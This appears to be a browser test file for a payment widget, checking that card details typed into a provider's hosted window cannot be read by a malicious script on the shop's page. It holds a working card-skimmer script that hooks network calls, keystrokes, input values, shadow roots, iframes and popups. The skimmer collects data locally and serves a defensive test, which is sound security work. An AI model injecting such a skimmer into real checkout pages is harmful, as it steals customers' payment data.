/**
 * Card on the provider's hosted page, in Chromium (issue 19): the shop on one origin, the provider
 * (the sandbox) on another, as in production. A skimming script loaded before everything on the
 * shop's page tries the usual ways to read the card while the customer pays; it sees neither the
 * number nor the security code. Every journey ends with the right outcome: a card without and
 * with a challenge, a failed challenge, a declined card, the page closed, the window blocked (the
 * same tab goes), and a payment finished after the checkout was closed. Run `npm run build:widget`
 * first.
 */
import type { BrowserContext, Page } from 'playwright';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { checkoutOn, openTab, useChromium } from '../helpers/page';
import { buttonPage, type Shop, startShop } from '../helpers/shop';

const CARD = '4242424242424242';
const CHALLENGE_CARD = '4000000000003220';
const DECLINED_CARD = '4000000000000002';
/** A code no other value on the page could hold by chance. */
const CVC = '987';
const EXPIRY = `12/${String((new Date().getFullYear() + 4) % 100).padStart(2, '0')}`;

/**
 * A compromised analytics tag, loaded before paydrop.js: it records everything it can reach.
 * Written as an attacker would, against what the page's own scripts can touch.
 */
const SKIMMER = `(() => {
  const seen = (window.__skimmed = []);
  const note = (how, value) => { try { seen.push(how + ':' + String(value).slice(0, 2000)); } catch {} };
  const realFetch = window.fetch;
  window.fetch = function (input, init) { note('fetch', (input && input.url) || input); if (init && init.body) note('fetch-body', init.body); return realFetch.apply(this, arguments); };
  const send = XMLHttpRequest.prototype.send;
  XMLHttpRequest.prototype.send = function (body) { note('xhr', body); return send.apply(this, arguments); };
  for (const type of ['keydown', 'keypress', 'input', 'change', 'paste']) {
    window.addEventListener(type, (event) => note(type, (event.key || '') + (event.target && event.target.value || '')), true);
    document.addEventListener(type, (event) => note(type, event.composedPath().map((node) => node.value || '').join('|')), true);
  }
  const valueOf = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value');
  Object.defineProperty(HTMLInputElement.prototype, 'value', {
    get() { const value = valueOf.get.call(this); note('value', value); return value; },
    set(value) { note('value-set', value); valueOf.set.call(this, value); },
  });
  const attach = Element.prototype.attachShadow;
  const roots = [];
  Element.prototype.attachShadow = function (init) { const root = attach.call(this, { ...init, mode: 'open' }); roots.push(root); return root; };
  const scan = () => {
    for (const root of [document, ...roots]) {
      for (const input of root.querySelectorAll('input, textarea')) note('scan', input.value);
      note('text', root.textContent || (root.body && root.body.textContent));
      for (const frame of root.querySelectorAll('iframe')) { try { note('frame', frame.contentDocument.body.textContent); } catch {} }
    }
  };
  new MutationObserver(scan).observe(document, { subtree: true, childList: true, attributes: true, characterData: true });
  addEventListener('message', (event) => note('message', JSON.stringify(event.data)));
  try { new BroadcastChannel('paydrop').onmessage = (event) => note('broadcast', JSON.stringify(event.data)); } catch {}
  // The window the checkout opens: read its document, its inputs, its URL, as often as possible.
  const open = window.open;
  const popups = [];
  window.open = function () { const popup = open.apply(this, arguments); if (popup) popups.push(popup); return popup; };
  setInterval(() => {
    scan();
    for (const popup of popups) {
      try { note('popup-url', popup.location.href); } catch {}
      try { for (const input of popup.document.querySelectorAll('input')) note('popup-input', input.value); } catch {}
      try { note('popup-text', popup.document.body.textContent); } catch {}
    }
  }, 20);
})();`;

const browser = useChromium();
let shop: Shop;
let context: BrowserContext;
let page: Page;

beforeEach(async () => {
  shop = await startShop({ providerOnOwnOrigin: true, companion: { cardEntry: 'hosted' } });
  shop.scripts.set('/skimmer.js', SKIMMER);
  shop.pages.set(
    '/',
    buttonPage('scarf-gbp').replace(
      '<script src="/paydrop.js"',
      '<script src="/skimmer.js"></script><script src="/paydrop.js"',
    ),
  );
  ({ context, page } = await openTab(browser()));
  page.setDefaultTimeout(10_000);
});

afterEach(async () => {
  await context?.close();
  await shop?.close();
});

const { heading, button } = checkoutOn(() => page);

/** The customer opens the checkout and chooses Card: the provider's page opens in a window. */
async function openCardPage(): Promise<Page> {
  await page.goto(`${shop.url}/`);
  await page.locator('#pay').click();
  await heading('How would you like to pay?').waitFor();
  const [popup] = await Promise.all([
    page.waitForEvent('popup'),
    page.getByRole('button', { name: /^Card\b/ }).click(),
  ]);
  await popup.getByLabel('Card number').waitFor();
  return popup;
}

async function payOnPage(popup: Page, number: string): Promise<void> {
  await popup.getByLabel('Name on card').fill('Amina Bello');
  await popup.getByLabel('Card number').fill(number);
  await popup.getByLabel('Expiry (MM/YY)').fill(EXPIRY);
  await popup.getByLabel('Security code').fill(CVC);
  await popup.getByRole('button', { name: /^Pay / }).click();
}

async function skimmed(): Promise<string> {
  return ((await page.evaluate('window.__skimmed')) as string[]).join('\n');
}

/** Neither the number (in any grouping) nor the code reached the skimmer. */
async function expectNothingSkimmed(number: string): Promise<void> {
  const all = await skimmed();
  expect(all.length).toBeGreaterThan(0);
  const digits = all.replace(/\D/g, '');
  expect(digits).not.toContain(number);
  expect(digits).not.toContain(number.slice(-8));
  expect(all).not.toMatch(new RegExp(`(^|\\D)${CVC}(\\D|$)`));
}

async function outcomeFor(order: string) {
  await expect
    .poll(() => shop.outcomes.filter((outcome) => outcome.orderId === order).length)
    .toBe(1);
  return shop.outcomes.find((outcome) => outcome.orderId === order);
}

describe('Card on the provider’s hosted page', () => {
  it('pays a card in the provider’s window, and the page’s skimmer sees neither number nor code', async () => {
    const popup = await openCardPage();
    expect(new URL(popup.url()).origin).toBe(shop.providerUrl);
    await heading('Pay by card').waitFor();
    await payOnPage(popup, CARD);
    await heading('Payment received').waitFor();
    await expect.poll(() => popup.isClosed()).toBe(true);
    expect(await outcomeFor('scarf-gbp')).toMatchObject({ status: 'SUCCESSFUL', channel: 'Card' });
    await expectNothingSkimmed(CARD);
    // Nor does the merchant's server: no card number or code in any line the companion logged.
    expect(shop.logLines.join('\n')).not.toContain(CARD);
  });

  it('runs the issuer’s challenge on the provider’s page, unseen by the skimmer', async () => {
    const popup = await openCardPage();
    await payOnPage(popup, CHALLENGE_CARD);
    await popup.getByLabel('One-time code').fill('123456');
    await popup.getByRole('button', { name: 'Verify and pay' }).click();
    await heading('Payment received').waitFor();
    await expectNothingSkimmed(CHALLENGE_CARD);
  });

  it('says a card was declined, and offers the card again on the same page', async () => {
    const popup = await openCardPage();
    await payOnPage(popup, DECLINED_CARD);
    await page
      .getByText(/declined/i)
      .first()
      .waitFor();
    const pages = await shop.sandbox('GET', '/__sandbox/payments');
    expect(((await pages.json()) as { payments: unknown[] }).payments).toHaveLength(1);
    expect((await outcomeFor('scarf-gbp'))?.status).toBe('FAILED');
  });

  it('says a failed challenge failed', async () => {
    const popup = await openCardPage();
    await payOnPage(popup, CHALLENGE_CARD);
    await popup.getByLabel('One-time code').fill('000000');
    await popup.getByRole('button', { name: 'Verify and pay' }).click();
    expect((await outcomeFor('scarf-gbp'))?.status).toBe('FAILED');
    await expect.poll(async () => (await heading('Payment received').count()) === 0).toBe(true);
    await page.getByRole('button', { name: 'Try again' }).waitFor();
  });

  it('says so when the customer closes the provider’s page, and offers the card again', async () => {
    const popup = await openCardPage();
    await popup.close();
    await page.getByText('The card page was closed before the payment was finished.').waitFor();
    const [again] = await Promise.all([page.waitForEvent('popup'), button('Pay by card').click()]);
    await again.getByLabel('Card number').waitFor();
    await payOnPage(again, CARD);
    await heading('Payment received').waitFor();
    expect((await outcomeFor('scarf-gbp'))?.status).toBe('SUCCESSFUL');
  });

  it('reports a payment finished after the checkout was closed, once, and the order is paid', async () => {
    const popup = await openCardPage();
    await page.getByRole('button', { name: 'Close' }).click();
    await expect.poll(() => page.locator('paydrop-checkout dialog[open]').count()).toBe(0);
    await payOnPage(popup, CARD);
    const outcome = await outcomeFor('scarf-gbp');
    expect(outcome).toMatchObject({ status: 'SUCCESSFUL', duplicate: false });
    // Opening the order again shows it paid, never a second page.
    await page.locator('#pay').click();
    await heading('Payment received').waitFor();
  });

  it('goes in the same tab when the browser blocks the window, and comes back to the outcome', async () => {
    await page.addInitScript('window.open = () => null;');
    await page.goto(`${shop.url}/?from=basket`);
    await page.locator('#pay').click();
    await page.getByRole('button', { name: /^Card\b/ }).click();
    await button('Continue to the card page').click();
    await page.waitForURL(`${shop.providerUrl}/**`);
    await payOnPage(page, CARD);
    // Back on the shop's page: the checkout opens again by itself, on the page's payment.
    await page.waitForURL(`${shop.url}/**`);
    await heading('Payment received').waitFor();
    expect(new URL(page.url()).search).toBe('?from=basket');
    expect((await outcomeFor('scarf-gbp'))?.status).toBe('SUCCESSFUL');
    await expectNothingSkimmed(CARD);
  });

  it('pays a payment link by card on the provider’s page', async () => {
    await shop.close();
    shop = await startShop({
      providerOnOwnOrigin: true,
      companion: {
        cardEntry: 'hosted',
        resolveLink: (alias) =>
          alias === 'inv-0042'
            ? { amountMinor: 4_999, currency: 'GBP', description: 'Invoice 0042' }
            : null,
      },
    });
    shop.scripts.set('/skimmer.js', SKIMMER);
    shop.pages.set(
      '/',
      `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Invoice</title>
<script src="/skimmer.js"></script><script src="/paydrop.js" defer></script></head>
<body><button id="pay" data-paydrop-link="inv-0042" data-paydrop-endpoint="/api/checkout">Pay this invoice</button></body></html>`,
    );
    const popup = await openCardPage();
    await payOnPage(popup, CHALLENGE_CARD);
    await popup.getByLabel('One-time code').fill('123456');
    await popup.getByRole('button', { name: 'Verify and pay' }).click();
    await heading('Payment received').waitFor();
    await expect.poll(() => shop.outcomes.length).toBe(1);
    expect(shop.outcomes[0]).toMatchObject({
      status: 'SUCCESSFUL',
      linkAlias: 'inv-0042',
      orderId: null,
      channel: 'Card',
    });
    await expectNothingSkimmed(CHALLENGE_CARD);
  });
});
